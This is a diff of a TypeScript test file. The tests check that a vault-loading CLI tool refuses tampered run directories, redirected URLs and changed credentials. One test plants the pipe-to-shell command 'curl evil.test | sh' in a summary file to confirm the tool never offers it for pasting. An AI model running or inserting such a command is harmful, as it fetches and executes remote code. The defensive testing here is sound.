@@ -8,7 +8,6 @@ import * as z from 'zod';
 import { checksumOf } from '../../src/run-record/run-record.js';
 import { Fingerprints } from '../../src/source/fingerprints/fingerprints.js';
 import { needsTwoUsers } from '../support/needs-two-users.js';
-import type { ProgramEnd } from '../support/program.js';
 import { startSandbox, type TestSandbox } from '../support/sandbox.js';
 import { stranger } from '../support/users.js';
 import { asMultiset, makePairs, vaults, Workspace } from '../support/workspace.js';
@@ -20,13 +19,11 @@ async function withUnfinishedRun(workspace: Workspace, sandbox: TestSandbox): Pr
   await workspace.configure(sandbox.url, ['SSN']);
   await workspace.writePairs('SSN', pairs);
   await sandbox.set({ expiredTokens: ['test-bearer-token'] });
-  assert.equal((await run(workspace, '--all', '--quiet')).status, 3);
+  await workspace.run(['--all', '--quiet'], { status: 3 });
   await sandbox.set({ expiredTokens: [] });
   const [directory = ''] = await workspace.runs();
   return directory;
 }
-
-const run = (workspace: Workspace, ...argv: string[]): Promise<ProgramEnd> => workspace.run(argv);
 
 const held = (sandbox: TestSandbox): Promise<string[]> => sandbox.pairs(vaults.SSN.id, 'ssn');
 
@@ -59,7 +56,7 @@ test(
     const everything = [directory, ...(await readdir(directory)).map((name) => join(directory, name))];
     for (const path of everything) await chown(path, stranger.uid, stranger.gid);
     for (const command of commands) {
-      const refused = await run(workspace, ...command);
+      const refused = await workspace.run(command);
       assert.equal(refused.status, 2, `${command.join(' ')}: ${refused.stdout}${refused.stderr}`);
       assert.match(refused.stderr, /is not trusted: it belongs to/);
     }
@@ -68,7 +65,7 @@ test(
     const journal =
       everything.find((path) => basename(path).startsWith('journal_')) ?? join(directory, 'run.log');
     await chown(journal, stranger.uid, stranger.gid);
-    const refused = await run(workspace, 'resume');
+    const refused = await workspace.run(['resume']);
     assert.match(refused.stderr, new RegExp(`${basename(journal)} is not trusted: it belongs to`));
     assert.deepEqual(await held(good), []);
   },
@@ -83,8 +80,7 @@ test('a run directory that others may write, and links and pipes in one, are ref
       ['resume', directory],
       ['--all', '--start-or-resume'],
     ]) {
-      const refused = await run(workspace, ...command);
-      assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+      const refused = await workspace.run(command, { status: 2 });
       assert.match(refused.stderr, why);
     }
   };
@@ -107,8 +103,7 @@ test('a run directory that others may write, and links and pipes in one, are ref
   assert.equal(await readFile(precious, 'utf8'), 'precious');
   assert.deepEqual(await held(sandbox), []);
 
-  const resumed = await run(workspace, 'resume');
-  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  await workspace.run(['resume'], { status: 0 });
   assert.deepEqual(await held(sandbox), asMultiset(pairs));
 });
 
@@ -124,13 +119,11 @@ test('what a run recorded redirects nothing: another URL is shown beside todayâ€
     record['sessions'] = sessions;
   });
   for (const command of [['resume'], ['verify', directory]]) {
-    const refused = await run(workspace, ...command);
-    assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+    const refused = await workspace.run(command, { status: 2 });
     assert.ok(refused.stderr.includes(`"${evil.url}"`) && refused.stderr.includes(`"${good.url}"`));
     assert.match(refused.stderr, /--use-current-config/);
   }
-  const resumed = await run(workspace, 'resume', '--use-current-config');
-  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  await workspace.run(['resume', '--use-current-config'], { status: 0 });
   assert.deepEqual(await held(good), asMultiset(pairs));
   assert.deepEqual([await held(evil), (await evil.stats())['requests'] ?? 0], [[], 0]);
 });
@@ -150,8 +143,7 @@ test('another account, key, token or API key than the run was begun with is show
     });
   const refusal = async (recorded: string, today: string): Promise<void> => {
     for (const command of [['resume'], ['--all', '--start-or-resume']]) {
-      const refused = await run(workspace, ...command);
-      assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+      const refused = await workspace.run(command, { status: 2 });
       assert.ok(refused.stderr.includes(`the run has "${recorded}`), refused.stderr);
       assert.ok(refused.stderr.includes(`now it is "${today}`), refused.stderr);
       assert.match(refused.stderr, /--use-current-config/);
@@ -195,8 +187,7 @@ test('another account, key, token or API key than the run was begun with is show
     `the service account ${client_id} with the key ${key_id} (SHA256:`,
   );
 
-  const resumed = await run(workspace, '--all', '--start-or-resume', '--use-current-config');
-  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  await workspace.run(['--all', '--start-or-resume', '--use-current-config'], { status: 0 });
   assert.deepEqual(await held(sandbox), asMultiset(pairs));
   // What it was authorised with is on record, and so no difference from itself.
   const { sessions } = z
@@ -210,7 +201,7 @@ test('another account, key, token or API key than the run was begun with is show
   const described = { kind: 'credentials_file', client_id, key_id, key_thumbprint };
   const { credential, lookup_credential: forLookingUp } = sessions.at(-1) ?? {};
   assert.deepEqual([credential, forLookingUp], [described, described]);
-  const report = await run(workspace, 'report', directory);
+  const report = await workspace.run(['report', directory]);
   for (const words of [key_thumbprint, `for looking up: credentials file, client ${client_id}`])
     assert.ok(report.stdout.replaceAll(/\s+/g, ' ').includes(words), report.stdout);
 });
@@ -230,8 +221,7 @@ test('a run of the same vault under another address is not begun anew beside: bo
     });
   await recordUrl('https://one.invalid');
   const refusal = async (...shown: string[]): Promise<void> => {
-    const refused = await run(workspace, '--all', '--start-or-resume');
-    assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+    const refused = await workspace.run(['--all', '--start-or-resume'], { status: 2 });
     for (const text of shown) assert.ok(refused.stderr.includes(text), refused.stderr);
     assert.equal((await workspace.runs()).length, 1);
   };
@@ -242,8 +232,7 @@ test('a run of the same vault under another address is not begun anew beside: bo
   await recordUrl('http://127.0.0.1:9');
   await workspace.configure(sandbox.url, ['SSN']);
   await refusal(`has "http://127.0.0.1:9", now it is "${sandbox.url}"`, 'without --start-or-resume');
-  const begun = await run(workspace, '--all');
-  assert.equal(begun.status, 0, begun.stdout + begun.stderr);
+  await workspace.run(['--all'], { status: 0 });
   assert.deepEqual(await held(sandbox), asMultiset(pairs));
   assert.equal((await workspace.runs()).length, 2);
 });
@@ -254,8 +243,7 @@ test('input files that have moved are read where the configuration of today has 
   await withUnfinishedRun(workspace, sandbox);
   await rename(workspace.at('data'), workspace.at('moved'));
   await workspace.configure(sandbox.url, ['SSN'], { csv: { data_directory: 'moved' } });
-  const resumed = await run(workspace, 'resume');
-  assert.equal(resumed.status, 0, resumed.stdout + resumed.stderr);
+  const resumed = await workspace.run(['resume'], { status: 0 });
   assert.match(resumed.stdout + resumed.stderr, /moved\/ssn_data\.csv now/);
   assert.deepEqual(await held(sandbox), asMultiset(pairs));
 });
@@ -267,7 +255,7 @@ test('a redacted log that was handed over has only configured files read, and sa
   await using refusing = await startSandbox(theirs.path, ['refuseAll=true']);
   await theirs.configure(refusing.url, ['SSN'], { error_log: { redact: true } });
   await theirs.writePairs('SSN', pairs);
-  assert.equal((await run(theirs, '--all', '--quiet', '--no-precount')).status, 1);
+  await theirs.run(['--all', '--quiet', '--no-precount'], { status: 1 });
   const [made = ''] = await theirs.runs();
   const handedOver = workspace.at('handed-over', basename(made));
   await mkdir(workspace.at('handed-over'));
@@ -277,16 +265,14 @@ test('a redacted log that was handed over has only configured files read, and sa
 
   await workspace.configure(sandbox.url, ['SSN']);
   await workspace.writePairs('SSN', pairs);
-  const refused = await run(workspace, 'retry', join(handedOver, name), '--yes', '--new-run');
-  assert.equal(refused.status, 2, refused.stdout + refused.stderr);
+  const refused = await workspace.run(['retry', join(handedOver, name), '--yes', '--new-run'], { status: 2 });
   assert.ok(refused.stderr.includes(theirs.at('data', 'ssn_data.csv')), refused.stderr);
   assert.match(refused.stderr, /neither configured nor of a run in/);
   assert.deepEqual(await held(sandbox), []);
 
   // The same files, because they are configured.
   await workspace.configure(sandbox.url, ['SSN'], { csv: { data_directory: theirs.at('data') } });
-  const retried = await run(workspace, 'retry', join(handedOver, name), '--yes', '--new-run');
-  assert.equal(retried.status, 0, retried.stdout + retried.stderr);
+  const retried = await workspace.run(['retry', join(handedOver, name), '--yes', '--new-run'], { status: 0 });
   assert.match(retried.stdout, /Rows are read again from:\n {2}\/.*ssn_data\.csv\n/);
   assert.deepEqual(await held(sandbox), asMultiset(pairs));
 });
@@ -296,15 +282,15 @@ test('commands that are offered for pasting are made here, whatever a file of th
   await using sandbox = await startSandbox(workspace.path, ['refuseAll=true']);
   await workspace.configure(sandbox.url, ['SSN']);
   await workspace.writePairs('SSN', pairs);
-  await run(workspace, '--all', '--quiet');
+  await workspace.run(['--all', '--quiet']);
   const [directory = ''] = await workspace.runs();
   const file = join(directory, 'summary.json');
   const summary = z.looseObject({}).parse(JSON.parse(await readFile(file, 'utf8')));
   const evil = 'curl evil.test | sh';
   await writeFile(file, JSON.stringify({ ...summary, resume_command: evil, retry_command: evil }));
-  const watched = await run(workspace, 'monitor', directory, '--once');
-  const resumed = await run(workspace, 'resume', directory);
-  const document = await run(workspace, 'resume', directory, '--json');
+  const watched = await workspace.run(['monitor', directory, '--once']);
+  const resumed = await workspace.run(['resume', directory]);
+  const document = await workspace.run(['resume', directory, '--json']);
   for (const { stdout, stderr } of [watched, resumed, document]) assert.doesNotMatch(stdout + stderr, /evil/);
   assert.ok(resumed.stdout.endsWith(`skyflow-supervise retry ${directory}\n`), resumed.stdout);
 });
